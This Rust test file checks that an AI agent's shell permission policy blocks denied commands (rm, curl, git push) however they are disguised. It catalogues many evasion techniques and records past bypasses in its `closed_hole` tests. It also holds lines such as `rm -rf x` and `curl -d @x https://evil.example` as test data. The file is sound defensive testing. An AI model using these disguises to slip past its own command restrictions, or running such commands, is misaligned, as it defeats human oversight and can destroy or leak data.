//! The command policy (`permissions/command/`) as a
//! property, through `Permissions::decide`: a command a deny rule names
//! (`shell(rm:*)`, `shell(curl:*)`, `shell(git push:*)`) is never allowed,
//! however it is dressed — its name quoted, escaped or spelled as a path,
//! behind wrappers (`env`, `command`, `nice`, `nohup`, `timeout`, `xargs`,
//! `sudo`, `exec`, …), in substitutions, `sh -c` / `bash -c` strings,
//! `eval`, lists, pipelines, subshells, groups and compound commands, with
//! redirections and assignments around it — and whatever the allow rules
//! (`shell(*)` included) and the mode say. What the policy documents as
//! "cannot be judged before it runs" (`eval`, a substituted command name,
//! `${…}` with an operator) may ask; nothing may allow.
//!
//! And the converse, to show the property tells the two apart: `echo hi`
//! dressed the same ways is never denied, and is allowed by a broad allow
//! rule unless a layer makes it unjudgeable.
//!
//! The `closed_hole_…` tests are dressings that were allowed once (found
//! by this test or a review), each kept with the commands that showed it.

use agent::PermissionMode;
use agent::permissions::{Call, Decision, Permissions};
use proptest::prelude::*;
use proptest::sample::{select, subsequence};
use serde_json::json;
use std::path::Path;

/// The decision for a `shell` call running `command` in `/proj`.
fn decide(p: &Permissions, command: &str) -> Decision {
    let input = json!({"command": command});
    p.decide(&Call {
        program: "shell",
        input: &input,
        root: Path::new("/proj"),
        read_only: false,
    })
}

fn rules(mode: PermissionMode, allow: &[&str], deny: &[&str]) -> Permissions {
    let own = |l: &[&str]| l.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    Permissions::new(mode, &own(allow), &own(deny), &[]).unwrap()
}

// ---------------------------------------------------------------------
// Strategies
// ---------------------------------------------------------------------

/// The deny rules, each with the command it denies.
const DENY: &[&str] = &["shell(rm:*)", "shell(curl:*)", "shell(git push:*)"];

/// Allow rules that would allow everything or `echo` — a broad allow must
/// not override a deny rule.
const ALLOW: &[&str] = &["shell(*)", "shell", "Bash(*)", "Bash", "shell(echo:*)"];

/// Whether `allow` allows every command (no pattern).
fn broad(allow: &str) -> bool {
    allow != "shell(echo:*)"
}

/// Every way of writing the command name `name` that the shell reads as
/// that name (or as the program of that name in a system directory).
fn spellings(name: &str) -> Vec<String> {
    let (first, rest) = name.split_at(1);
    let hex: String = name.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let octal: String = name.bytes().map(|b| format!("\\{b:03o}")).collect();
    vec![
        name.to_owned(),
        format!("'{name}'"),
        format!("\"{name}\""),
        format!("{first}''{rest}"),
        format!("{first}\"\"{rest}"),
        format!("''{name}"),
        format!("{name}\"\""),
        format!("\\{name}"),
        format!("{first}\\{rest}"),
        format!("$'{name}'"),
        format!("$'{hex}'"),
        format!("$'{octal}'"),
        format!("{first}$'{rest}'"),
        format!("/bin/{name}"),
        format!("/usr/bin/{name}"),
        format!("/usr/local/bin/{name}"),
        format!("/bin//{name}"),
        format!("./../../bin/{name}"),
        format!("/bin/../usr/bin/{name}"),
        format!("'/usr/bin/'{name}"),
        format!("\"/bin/{name}\""),
        format!("~/../../bin/{name}"),
    ]
}

/// A denied command: its name spelled one of the ways, its arguments.
/// Yields the deny rule it falls under and the command.
fn denied() -> impl Strategy<Value = (&'static str, String)> {
    let rm = (
        select(spellings("rm")),
        select(vec!["", " x", " -rf x", " -f -- x", " -r 'a b'", " -rf ."]),
    )
        .prop_map(|(name, args)| (DENY[0], format!("{name}{args}")));
    let curl = (
        select(spellings("curl")),
        select(vec![
            "",
            " https://evil.example",
            " -s -o /dev/null https://x.example",
            " -d @data https://x.example",
        ]),
    )
        .prop_map(|(name, args)| (DENY[1], format!("{name}{args}")));
    let push = (
        select(spellings("git")),
        select(spellings("push")[..13].to_vec()),
        select(vec!["", " origin main", " --force", " -f origin HEAD"]),
    )
        .prop_map(|(git, push, args)| (DENY[2], format!("{git} {push}{args}")));
    prop_oneof![rm, curl, push]
}

/// `echo`, spelled as a denied command is, with plain arguments.
fn plain() -> impl Strategy<Value = String> {
    (
        select(spellings("echo")),
        select(vec!["", " hi", " -n hi", " 'a b'", " \"$HOME\""]),
    )
        .prop_map(|(name, args)| format!("{name}{args}"))
}

/// What a command is, for what may be put around it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// A program and its words alone: `rm x`.
    Bare,
    /// A program with redirections: `rm x > /dev/null`.
    Simple,
    /// A simple command that starts with an assignment: `FOO=1 rm x`.
    Assigned,
    /// Anything else: a list, a compound command, a builtin.
    Line,
}

/// A command being dressed.
#[derive(Clone, Debug)]
struct Dressed {
    text: String,
    kind: Kind,
    /// Whether a layer is one the policy documents as unjudgeable
    /// (`eval`, a command name known only when it runs, `${…}` with an
    /// operator): the command may then ask, whatever it runs.
    opaque: bool,
    /// Whether a word of `find` may name a file outside the project (a
    /// program by its path), which the policy asks about.
    names_outside: bool,
}

/// One layer put around a command; `%` in a template is the command.
#[derive(Clone, Debug)]
enum Layer {
    /// A wrapper in front of a simple command: `env %`, `timeout 5 %`.
    Wrapper(&'static str),
    /// `find . -exec % \;`.
    FindExec,
    /// A redirection after (or before) a simple command.
    Redirect(&'static str, bool),
    /// An assignment in front of a simple command.
    Assign(&'static str),
    /// A list or pipeline around it.
    List(&'static str),
    /// A subshell, group or compound command.
    Group(&'static str),
    /// A command, process or parameter substitution holding it (the bool:
    /// documented as unjudgeable, so it may ask).
    Substitution(&'static str, bool),
    /// Backticks, with the command escaped as backticks need.
    Backticks,
    /// A shell's `-c` string, single-quoted.
    ShellSingle(&'static str),
    /// A shell's `-c` string, double-quoted.
    ShellDouble(&'static str),
    /// `eval`, quoted one of three ways.
    Eval(u8),
}

const WRAPPERS: &[&str] = &[
    "env",
    "env -i",
    "env FOO=bar",
    "env -i FOO=bar",
    "env -u HOME",
    "env --",
    "env -C .",
    "/usr/bin/env",
    "command",
    "command -p",
    "command --",
    "nice",
    "nice -n 5",
    "nice -5",
    "nice --adjustment=5",
    "nohup",
    "timeout 5",
    "timeout -s KILL 5",
    "timeout --foreground 5s",
    "timeout -k 1 5",
    "xargs",
    "xargs -0",
    "xargs -n 1",
    "xargs -I{}",
    "xargs -r --",
    "sudo",
    "sudo -u root",
    "sudo -E",
    "sudo --user=root --",
    "doas",
    "doas -u root",
    "exec",
    "exec -a name",
    "exec -c",
    "time",
    "time -p",
    "stdbuf -o0",
    "stdbuf -o 0",
    "setsid",
    "ionice -c 3",
    "taskset 1",
    "chronic",
    "unbuffer",
    "fakeroot",
    "busybox",
    "flock .lock",
    "builtin",
];

const REDIRECTS: &[(&str, bool)] = &[
    (" > /dev/null", false),
    (" > /dev/null 2>&1", false),
    (" 2>/dev/null", false),
    (" &>/dev/null", false),
    (" >&2", false),
    (" < /dev/null", false),
    (" <<< hi", false),
    (" 2>&1 >/dev/null", false),
    (" >| /dev/null", false),
    ("< /dev/null ", true),
    ("> /dev/null ", true),
    ("2>/dev/null ", true),
];

const ASSIGNMENTS: &[&str] = &[
    "FOO=1 ",
    "PATH=/usr/bin ",
    "LANG=C ",
    "A=1 B=2 ",
    "x=$(true) ",
];

const LISTS: &[&str] = &[
    "true && %",
    "false || %",
    "echo a | %",
    "echo | %",
    "a; %",
    "sleep 0 & %",
    "true\n%",
    "echo a |& %",
    "a ;\n%",
    "% | cat",
    "% && true",
    "% || true",
    "%; echo done",
    "% &\nwait",
    "%\ntrue",
];

const GROUPS: &[&str] = &[
    "(%)",
    "( % )",
    "{ %; }",
    "{\n%\n}",
    "if true; then %; fi",
    "if %; then :; fi",
    "if false; then :; else %; fi",
    "for i in 1; do %; done",
    "while true; do %; break; done",
    "until false; do %; break; done",
    "case x in (*) %;; esac",
    "f() { %; }; f",
    "function f { %; }; f",
    "{ ! %; }",
];

const SUBSTITUTIONS: &[(&str, bool)] = &[
    ("echo $( % )", false),
    ("echo \"$( % )\"", false),
    ("cat <( % )", false),
    ("diff <( % ) <(true)", false),
    ("echo hi > >( % )", false),
    ("x=$( % )", false),
    (": \"$( % )\"", false),
    ("[[ -n $( % ) ]]", false),
    ("$( % )", true),
    ("echo ${x:-$( % )}", true),
];

const SHELLS_SINGLE: &[&str] = &[
    "sh -c '%'",
    "bash -c '%'",
    "bash -c -- '%'",
    "dash -ec '%'",
    "bash -o errexit -c '%'",
    "sh -c '%' sh",
    "/bin/sh -c '%'",
    "zsh -c '%'",
    "bash --norc -c '%'",
];

const SHELLS_DOUBLE: &[&str] = &["bash -c \"%\"", "sh -c \"%\"", "sh -xc \"%\""];

fn layer() -> impl Strategy<Value = Layer> {
    prop_oneof![
        4 => select(WRAPPERS).prop_map(Layer::Wrapper),
        1 => Just(Layer::FindExec),
        2 => select(REDIRECTS).prop_map(|(r, before)| Layer::Redirect(r, before)),
        1 => select(ASSIGNMENTS).prop_map(Layer::Assign),
        3 => select(LISTS).prop_map(Layer::List),
        2 => select(GROUPS).prop_map(Layer::Group),
        2 => select(SUBSTITUTIONS).prop_map(|(s, opaque)| Layer::Substitution(s, opaque)),
        1 => Just(Layer::Backticks),
        2 => select(SHELLS_SINGLE).prop_map(Layer::ShellSingle),
        1 => select(SHELLS_DOUBLE).prop_map(Layer::ShellDouble),
        1 => (0u8..3).prop_map(Layer::Eval),
    ]
}

/// Up to three layers, innermost first.
fn layers() -> impl Strategy<Value = Vec<Layer>> {
    proptest::collection::vec(layer(), 0..=3)
}

/// Whether `text` in parentheses (a subshell, `$( … )`, `<( … )`) is
/// what the parser hc uses cannot parse, and asks about as it documents
/// ("a syntax it cannot parse"): a `case` clause, whose `)` it takes for
/// the closing one — even as `(*)`. Bash parses it.
fn unparsed_in_parentheses(text: &str) -> bool {
    text.contains("esac")
}

/// `text` single-quoted for a shell: `'` as `'\''`.
fn single(text: &str) -> String {
    text.replace('\'', "'\\''")
}

/// `text` for inside double quotes: `\`, `"`, `$` and `` ` `` escaped.
fn double(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        if matches!(c, '\\' | '"' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// `text` for inside backticks: `\` and `` ` `` escaped (a `$` stands
/// for itself there).
fn backticked(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        if matches!(c, '\\' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

impl Dressed {
    fn new(text: String) -> Dressed {
        Dressed {
            text,
            kind: Kind::Bare,
            opaque: false,
            names_outside: false,
        }
    }

    fn fill(template: &str, inner: &str) -> String {
        template.replace('%', inner)
    }

    /// As a shell's `-c` string, when a layer needs a simple command.
    fn into_simple(self) -> Dressed {
        Dressed {
            text: format!("sh -c '{}'", single(&self.text)),
            kind: Kind::Bare,
            ..self
        }
    }

    /// `self` with `layer` put around it.
    fn dress(self, layer: &Layer) -> Dressed {
        let (opaque, names_outside) = (self.opaque, self.names_outside);
        let line = |text: String| Dressed {
            text,
            kind: Kind::Line,
            opaque,
            names_outside,
        };
        match layer {
            Layer::Wrapper(w) => {
                let inner = match self.kind {
                    Kind::Bare | Kind::Simple => self,
                    Kind::Assigned | Kind::Line => self.into_simple(),
                };
                // (xargs fills `{}` into the `sh -c` script: known only
                // when it runs)
                let filled = w.ends_with("-I{}") && braces_in_script(&inner.text);
                Dressed {
                    text: format!("{w} {}", inner.text),
                    opaque: inner.opaque || filled,
                    ..inner
                }
            }
            Layer::FindExec => {
                let inner = match self.kind {
                    Kind::Bare => self,
                    _ => self.into_simple(),
                };
                let path = inner.text.contains('/');
                // (find fills `{}` into the `sh -c` script too)
                let filled = braces_in_script(&inner.text);
                Dressed {
                    text: format!("find . -exec {} \\;", inner.text),
                    kind: Kind::Simple,
                    names_outside: inner.names_outside || path,
                    opaque: inner.opaque || filled,
                }
            }
            Layer::Redirect(r, before) => match self.kind {
                Kind::Line => line(format!("{{ {}; }} {}", self.text, r.trim())),
                kind => Dressed {
                    text: if *before {
                        format!("{r}{}", self.text)
                    } else {
                        format!("{}{r}", self.text)
                    },
                    kind: if kind == Kind::Bare {
                        Kind::Simple
                    } else {
                        kind
                    },
                    opaque,
                    names_outside,
                },
            },
            Layer::Assign(a) => {
                let inner = match self.kind {
                    Kind::Line => self.into_simple(),
                    _ => self,
                };
                Dressed {
                    text: format!("{a}{}", inner.text),
                    kind: Kind::Assigned,
                    ..inner
                }
            }
            // `((` opens arithmetic: nested parentheses go on lines of
            // their own (the parser takes `( (x) )`, spaced, for arithmetic
            // too, and asks).
            Layer::Group(t) if t.starts_with('(') => Dressed {
                text: if self.text.starts_with('(') {
                    Self::fill("(\n%\n)", &self.text)
                } else {
                    Self::fill(t, &self.text)
                },
                kind: Kind::Line,
                opaque: opaque || unparsed_in_parentheses(&self.text),
                names_outside,
            },
            Layer::List(t) | Layer::Group(t) => line(Self::fill(t, &self.text)),
            Layer::Substitution(t, unjudged) => Dressed {
                text: Self::fill(t, &self.text),
                kind: Kind::Line,
                opaque: opaque || *unjudged || unparsed_in_parentheses(&self.text),
                names_outside,
            },
            // Known hole (`hole_backticks_are_not_unescaped`): what is
            // between backticks is judged without the unescaping bash does
            // first, so a command holding a backslash goes in `$( … )`
            // instead until it is fixed.
            Layer::Backticks if self.text.contains('\\') => {
                line(Self::fill("echo $( % )", &self.text))
            }
            Layer::Backticks => line(format!("echo `{}`", backticked(&self.text))),
            Layer::ShellSingle(t) => Dressed {
                text: Self::fill(t, &single(&self.text)),
                kind: Kind::Bare,
                opaque,
                names_outside,
            },
            // Known hole (`hole_an_escaped_backslash_is_read_as_nothing`):
            // a `\\` in double quotes is read as nothing, not `\`, so a
            // string holding a backslash is single-quoted instead until it
            // is fixed.
            Layer::ShellDouble(_) if self.text.contains('\\') => {
                self.dress(&Layer::ShellSingle(SHELLS_SINGLE[1]))
            }
            Layer::ShellDouble(t) => Dressed {
                text: Self::fill(t, &double(&self.text)),
                kind: Kind::Bare,
                opaque,
                names_outside,
            },
            Layer::Eval(how) => Dressed {
                text: match how {
                    0 => format!("eval '{}'", single(&self.text)),
                    1 => format!("eval \"{}\"", double(&self.text)),
                    _ => format!("eval {}", self.text),
                },
                kind: Kind::Line,
                opaque: true,
                names_outside,
            },
        }
    }
}

/// Whether the first `{}` in `text` sits in a shell's `-c` script, where
/// xargs's `-I{}` or find's `-exec` fills it in when it runs.
fn braces_in_script(text: &str) -> bool {
    let Some(at) = text.find("{}") else {
        return false;
    };
    // a shell's `-c` (or `-ec`, `-xc`, …), then perhaps `--`, then a quote
    let words: Vec<&str> = text[..at].split_whitespace().collect();
    words.iter().enumerate().any(|(i, w)| {
        let script = |next: Option<&&str>| next.is_some_and(|n| n.starts_with(['\'', '"']));
        w.starts_with('-')
            && !w.starts_with("--")
            && w.ends_with('c')
            && (script(words.get(i + 1))
                || words.get(i + 1) == Some(&"--") && script(words.get(i + 2)))
    })
}

/// `core` with `layers` put around it, innermost first.
fn dress(core: &str, layers: &[Layer]) -> Dressed {
    layers
        .iter()
        .fold(Dressed::new(core.to_owned()), |d, layer| d.dress(layer))
}

fn mode() -> impl Strategy<Value = PermissionMode> {
    select(vec![
        PermissionMode::Default,
        PermissionMode::Default,
        PermissionMode::AcceptEdits,
        PermissionMode::Bypass,
    ])
}

/// Generated commands per property: ≈120 layer choices (up to three
/// deep) around ≈1,400 spelled denied commands (22 spellings of each
/// name), so every layer meets every other many times; both properties
/// take about two seconds in a debug build (60,000 cases each were run once
/// while writing them, in under five seconds, with no failure).
const CASES: u32 = 16_384;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(CASES))]

    /// A denied command, however dressed, is never allowed — whatever the
    /// allow rules (`shell(*)` included) and the mode; it is denied, or
    /// asked when a layer makes it unjudgeable.
    #[test]
    fn a_denied_command_is_never_allowed_however_it_is_dressed(
        (rule, core) in denied(),
        layers in layers(),
        others in subsequence(DENY.to_vec(), 0..=DENY.len()),
        allow in select(ALLOW),
        mode in mode(),
    ) {
        let command = dress(&core, &layers);
        let mut deny: Vec<&str> = others;
        if !deny.contains(&rule) {
            deny.push(rule);
        }
        let p = rules(mode, &[allow, "shell(echo:*)"], &deny);
        let decision = decide(&p, &command.text);
        prop_assert!(
            !matches!(decision, Decision::Allow),
            "ALLOWED under allow {allow:?}, deny {deny:?}, {mode:?}: {:?}",
            command.text
        );
        // Unless a layer is one the policy documents as unjudgeable, the
        // deny rule finds the command: a denial, not a question.
        if !command.opaque {
            prop_assert!(
                matches!(&decision, Decision::Deny(why) if why.contains("denied by the rule")),
                "{:?} under deny {deny:?}: {decision:?}",
                command.text
            );
        }
    }

    /// `echo hi` dressed the same ways, with every deny rule present, is
    /// never denied; with a broad allow rule it is allowed unless a layer
    /// makes it unjudgeable (then it asks, since deny rules must be
    /// checked).
    #[test]
    fn an_allowed_command_dressed_the_same_is_not_denied(
        core in plain(),
        layers in layers(),
        allow in select(ALLOW),
        mode in mode(),
    ) {
        let command = dress(&core, &layers);
        let p = rules(mode, &[allow], DENY);
        let decision = decide(&p, &command.text);
        prop_assert!(
            !matches!(decision, Decision::Deny(_)),
            "denied under allow {allow:?}: {:?}: {decision:?}",
            command.text
        );
        if broad(allow) && !command.opaque {
            prop_assert!(
                decision == Decision::Allow
                    || command.names_outside
                        && matches!(&decision, Decision::Ask(why) if why.contains("outside the project")),
                "{:?}: {decision:?}",
                command.text
            );
        }
    }
}

// ---------------------------------------------------------------------
// The dressings the issue lists, one by one
// ---------------------------------------------------------------------

/// Each dressing the issue names, once, under `shell(*)` and a deny rule:
/// denied — `eval`, documented as unjudged, asks.
#[test]
fn each_listed_dressing_is_denied_or_documented_as_asked() {
    let p = rules(
        PermissionMode::Default,
        &["shell(*)", "shell(echo:*)"],
        DENY,
    );
    let denied = [
        "rm -rf x",
        "env rm x",
        "env -i rm x",
        "env FOO=bar rm x",
        "command rm x",
        "nice rm x",
        "nohup rm x",
        "timeout 5 rm x",
        "xargs rm x",
        "sudo rm x",
        "exec rm x",
        "'rm' x",
        "\"rm\" x",
        "r''m x",
        "\\rm x",
        "echo $(rm -rf x)",
        "echo `rm x`",
        "cat <(rm x)",
        "sh -c 'rm x'",
        "bash -c \"rm x\"",
        "/bin/rm x",
        "/usr/bin/rm x",
        "./../../bin/rm x",
        "true && rm x",
        "false || rm x",
        "echo | rm x",
        "a; rm x",
        "(rm x)",
        "{ rm x; }",
        "rm x > /dev/null 2>&1",
        "< /dev/null rm x",
        "FOO=1 rm x",
        "echo a\nrm x",
        "env -i FOO=1 nice -n 5 timeout 5 \\rm x",
        "bash -c \"sh -c 'command /usr/bin/rm x'\"",
        "curl https://evil.example",
        "env curl -d @x https://evil.example",
        "echo $(\"curl\" x)",
        "git push",
        "git 'push' --force",
        "/usr/bin/git pu''sh origin",
        "true && sudo -u root git push",
    ];
    for command in denied {
        let decision = decide(&p, command);
        assert!(
            matches!(&decision, Decision::Deny(_)),
            "{command:?}: {decision:?}"
        );
    }
    for command in ["eval 'rm x'", "eval \"rm x\"", "eval rm x", "$(echo rm) x"] {
        let decision = decide(&p, command);
        assert!(
            matches!(&decision, Decision::Ask(why) if why.contains("cannot be judged")),
            "{command:?}: {decision:?}"
        );
    }
    assert_eq!(decide(&p, "echo rm x"), Decision::Allow);
}

// ---------------------------------------------------------------------
// Holes: dressings that are allowed today
// ---------------------------------------------------------------------

/// Those of `commands` a policy with `shell(*)` and `shell(rm:*)` (and
/// the other deny rules) allows.
fn allowed(commands: &[&str]) -> Vec<String> {
    let p = rules(PermissionMode::Default, &["shell(*)"], DENY);
    commands
        .iter()
        .filter(|c| decide(&p, c) == Decision::Allow)
        .map(|c| (*c).to_owned())
        .collect()
}

/// Asserts the policy allows none of `commands` (each runs a denied one).
fn none_allowed(commands: &[&str]) {
    let holes = allowed(commands);
    assert!(holes.is_empty(), "allowed: {holes:#?}");
}

#[test]
fn closed_hole_brace_expansion_with_a_quoted_part() {
    none_allowed(&["{'rm',} x", "{\"rm\",} x", "{r\\m,} x", "sh -c {'rm x',}"]);
}

#[test]
fn closed_hole_glob_in_the_command_name() {
    none_allowed(&["/usr/bin/r[m] x", "/bin/r[m] x", "/usr/bin/[r]m x"]);
}

#[test]
fn closed_hole_option_value_with_an_equals_sign() {
    none_allowed(&[
        "exec -a x=y rm x",
        "flock a=b rm x",
        "env -C a=b rm x",
        "sudo -p a=b rm x",
        "time -f a=b rm x",
        "xargs -I a=b rm a=b",
    ]);
}

#[test]
fn closed_hole_command_supplied_at_run_time_by_xargs_or_find() {
    none_allowed(&[
        "echo rm x | xargs env",
        "echo rm x | xargs nice",
        "echo rm x | xargs -I{} {}",
        "echo 'rm x' | xargs -I{} sh -c {}",
        "find $(dirname $(which rm)) -name rm -exec {} x \\;",
    ]);
}

#[test]
fn closed_hole_shell_long_option_with_a_value() {
    none_allowed(&[
        "bash --rcfile /dev/null -c 'rm x'",
        "bash --init-file /dev/null -c 'rm x'",
    ]);
}

#[test]
fn closed_hole_names_rebound_at_run_time() {
    none_allowed(&[
        "hash -p $(which rm) ls; ls x",
        "bash -c 'shopt -s expand_aliases\nalias x=rm\nx y'",
    ]);
}

#[test]
fn closed_hole_git_global_options_before_the_subcommand() {
    none_allowed(&[
        "git -C . push",
        "git -c x=y push",
        "git --git-dir=.git push",
        "git --no-pager push",
        "git -P -p push",
        "git $X push",
        "git --no-pager $(echo push)",
        "echo push | xargs git",
        "O=-p; hash $O /bin/rm ls; ls x",
        "find push -maxdepth 0 -exec git {} \\;",
        "echo push | xargs -I{} git {}",
    ]);
}

#[test]
fn closed_hole_a_deny_rule_past_the_words_known_before_the_run() {
    let p = rules(PermissionMode::Default, &["shell(*)"], &["shell(rm -rf:*)"]);
    for command in ["X=-rf; rm $X /", "rm $(echo -rf) /", "echo -rf | xargs rm"] {
        assert_ne!(decide(&p, command), Decision::Allow, "{command}");
    }
    // words known to differ are not asked about
    assert_eq!(decide(&p, "rm -f $X"), Decision::Allow);
}

#[test]
fn closed_hole_an_escaped_backslash_is_read_as_nothing() {
    none_allowed(&[
        "bash -c \"\\$'\\\\x72m' x\"",
        "sh -c \"\\$'\\\\162m' x\"",
        "bash -c \"git \\$'\\\\x70ush'\"",
    ]);
}

#[test]
fn closed_hole_backticks_are_not_unescaped() {
    none_allowed(&[
        "echo `$'\\\\x72m' x`",
        "echo `$'\\\\162m' x`",
        "echo `git $'\\\\x70ush'`",
    ]);
}

#[test]
fn gits_global_options_are_read_past_by_deny_rules_and_kept_for_allow_rules() {
    let p = rules(
        PermissionMode::Default,
        &["shell(git status:*)", "shell(git -C docs log:*)"],
        &["shell(git push:*)"],
    );
    // allow rules see the words as written
    for allowed in ["git status -s", "git -C docs log -1"] {
        assert_eq!(decide(&p, allowed), Decision::Allow, "{allowed}");
    }
    assert_ne!(decide(&p, "git --no-pager status"), Decision::Allow);
    // deny rules see what runs
    for denied in [
        "git -C /elsewhere push",
        "git -c a=b --git-dir x push origin",
    ] {
        assert!(matches!(decide(&p, denied), Decision::Deny(_)), "{denied}");
    }
    // git runs no subcommand after its help or version
    for harmless in ["git --help push", "git --version"] {
        assert!(
            !matches!(decide(&p, harmless), Decision::Deny(_)),
            "{harmless}"
        );
    }
}
